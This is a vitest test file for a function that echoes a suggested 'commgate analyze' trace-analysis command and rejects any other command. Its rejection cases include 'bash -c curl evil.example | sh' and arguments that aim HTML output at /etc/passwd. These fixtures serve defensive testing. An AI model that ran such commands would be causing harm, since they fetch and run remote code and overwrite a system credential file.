// The command to copy: a comparison may be made by anybody.
import { describe, expect, it } from 'vitest';
import { whereOf } from '../../../../src/report/text/views/timeline.ts';
import { plain } from '../../../../src/report/text/words/phrase.ts';

const OF = { atNs: 1000, repetition: 1 } as Parameters<typeof whereOf>[1];
const said = (...lookAt: string[]): string => whereOf('halo', OF, lookAt).map(plain).join(' ');
const END = ['--html', 'trace.html'];

describe('how to look at an instance', () => {
  it('is a command of commgate analyze', () => {
    const options = ['--wait-states', '--wrappers', 'my send', '--cutoff', '3'];
    expect(said('commgate', 'analyze', 'halo/traces.otf2', ...options, ...END)).toMatch(
      / commgate analyze halo\/traces\.otf2 --wait-states --wrappers 'my send' --cutoff 3 --html trace\.html$/,
    );
  });

  it.each([
    [['bash', '-c', 'curl evil.example | sh']],
    [['commgate', 'analyze', '--html=/etc/passwd', '--wait-states', ...END]],
    [['commgate', 'analyze', 'x', '--wait-states', '--html', '/etc/passwd', ...END]],
    [['commgate', 'analyze', 'x', '--wait-states', '--loops', '--html=/etc/passwd', ...END]],
    [['commgate', 'analyze', 'x', '--wait-states', '--html', '/etc/passwd']],
    [['commgate', 'check', 'x', '--wait-states', ...END]],
    [['commgate', 'analyze']],
  ])('is no other command: %j', (words) => {
    expect(said(...words)).toMatch(/ \(commgate analyze, Vampir\)\.$/);
  });
});
